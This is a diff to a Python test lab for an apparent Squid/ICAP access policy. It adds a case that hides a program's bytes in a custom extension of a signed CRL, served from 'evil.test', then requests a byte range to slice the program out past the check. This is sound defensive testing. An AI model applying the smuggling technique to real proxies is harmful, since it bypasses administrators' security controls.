@@ -19,7 +19,11 @@ cacheable (Cache-Control: max-age, Last-Modified, ETag). For each configuration:
       cannot stage anything);
   (c) a must-revalidate program (max-age=0): the origin answers Squid's revalidation
       with 304;
-  (d) a Range: request (bytes=0-99 and a slice in the middle), and If-Range;
+  (d) a Range: request (bytes=0-99 and a slice in the middle), and If-Range; and a slice
+      of a checked object: a CRL whose (non-critical, unknown) extension carries the
+      program passes the check as a whole; with `range_offset_limit -1` (set by the
+      usual Windows Update caching recipes, and in this lab) Squid fetches the whole
+      object and cuts the requested slice, the program, out of it itself;
   (e) decision mode: an authenticated fetch (no REQMOD, no RESPMOD) stages it, then a
       marked request gets it.
 The bypassed client must get none of the program's bytes (403 page, 407, or a cut
@@ -34,6 +38,7 @@ from __future__ import annotations
 
 import os
 import re
+import subprocess
 import sys
 import tempfile
 import time
@@ -157,6 +162,17 @@ class Run:
             self.no_program(url, f"(d) {' + '.join(h.split(':')[0] for h in hdrs)} "
                             f"{hdrs[0].split('=')[1]}", headers=hdrs)
 
+    def case_d_slice(self, crl_path: str, offset: int, length: int):
+        print("== (d) a slice of a checked CRL that carries the program in an extension")
+        path = "/d2/embedded.crl"
+        url = f"http://evil.test{path}"
+        self.lab.origin.serve(path, file=crl_path, content_type="application/pkix-crl")
+        r, body = self.fetch(url, ua=CRYPTOAPI)
+        print(f"  (whole object without credentials: HTTP {r['status']}, {len(body)} bytes: "
+              "a structurally valid CRL; data inside one is outside the check's promise)")
+        self.no_program(url, "(d) Range over the extension of a checked CRL",
+                        headers=[f"Range: bytes={offset}-{offset + length - 1}"])
+
     def case_e(self):
         print("== (e) decision mode: an authenticated CryptoAPI fetch stages it")
         url = self.stage("/e/x.crl", CACHEABLE, ua=CRYPTOAPI)
@@ -198,6 +214,32 @@ class Run:
                     "\n".join(served))
 
 
+def crl_carrying_program(data: dict, tmp: str, length: int = 4096) -> tuple[str, int]:
+    """A CRL signed by the test CA whose extension 1.3.6.1.4.1.55555.1 holds the first
+    `length` bytes of the program; (path, offset of those bytes in the file)."""
+    d = os.path.join(tmp, "embedded-crl")
+    os.makedirs(d, exist_ok=True)
+    program = open(data["app.exe"], "rb").read()[:length]
+    open(os.path.join(d, "index.txt"), "w").close()
+    with open(os.path.join(d, "crlnumber"), "w") as f:
+        f.write("1000\n")
+    with open(os.path.join(d, "ca.cnf"), "w") as f:
+        f.write("[ca]\ndefault_ca = lab\n[lab]\ndatabase = index.txt\ncrlnumber = crlnumber\n"
+                "default_md = sha256\ndefault_crl_days = 30\ncrl_extensions = crl_ext\n"
+                f"[crl_ext]\n1.3.6.1.4.1.55555.1 = DER:{program.hex()}\n")
+    for cmd in (["openssl", "ca", "-batch", "-config", "ca.cnf", "-gencrl", "-keyfile",
+                 data["ca.key"], "-cert", data["ca.pem"], "-out", "e.pem"],
+                ["openssl", "crl", "-in", "e.pem", "-outform", "DER", "-out", "e.crl"]):
+        subprocess.run(cmd, cwd=d, check=True, capture_output=True, timeout=60)
+    path = os.path.join(d, "e.crl")
+    offset = open(path, "rb").read().find(program)
+    if offset < 0:
+        raise LabError("the program is not in the generated CRL")
+    os.chmod(d, 0o755)
+    os.chmod(path, 0o644)
+    return path, offset
+
+
 def run(name: str, cli, helper, module, policy, data, tmp, checks, started, *, decide=False,
         shipped=False):
     print(f"\n######## {name}", flush=True)
@@ -219,7 +261,10 @@ def run(name: str, cli, helper, module, policy, data, tmp, checks, started, *, d
                                                secret_file, "--clients", "localhost")
         else:
             dropin = SquidLab.generated_dropin(cli, policy)
-        lab = SquidLab(helper, policy, dropin=dropin, icap_port=ic.port, verbose=True)
+        # range_offset_limit -1: the admin's own line, as Windows Update caching recipes
+        # have it (Squid fetches whole objects for Range requests and cuts the slice)
+        lab = SquidLab(helper, policy, dropin=dropin, icap_port=ic.port, verbose=True,
+                       extra_conf="range_offset_limit -1\n")
         t.lab, t.ic = lab, ic
         lab.start()
         started.append(lab.squid.pid)
@@ -231,11 +276,12 @@ def run(name: str, cli, helper, module, policy, data, tmp, checks, started, *, d
         t.case_b()
         t.case_c()
         t.case_d()
+        t.case_d_slice(*crl_carrying_program(data, tmp), 4096)
         if decide:
             t.case_e()
         t.genuine()
         t.audit_count()
-    except (LabError, IcapLabError, OSError) as e:
+    except (LabError, IcapLabError, OSError, subprocess.SubprocessError) as e:
         checks.failures.append(f"[{name}] lab error: {e}")
         print(f"  FAIL  lab error: {e}", flush=True)
     finally:
@@ -257,7 +303,7 @@ def main(argv) -> int:
     if not squid_available() or not c_icap_available():
         print("SKIP: squid / curl / openssl / c-icap not installed (scripts/setup installs them)")
         return 77
-    data = {n: os.path.join(data_dir, n) for n in os.listdir(data_dir)}
+    data = {n: os.path.abspath(os.path.join(data_dir, n)) for n in os.listdir(data_dir)}
     checks = Checks()
     started: list[int] = []
     with tempfile.TemporaryDirectory(prefix="cache-hole-") as tmp:
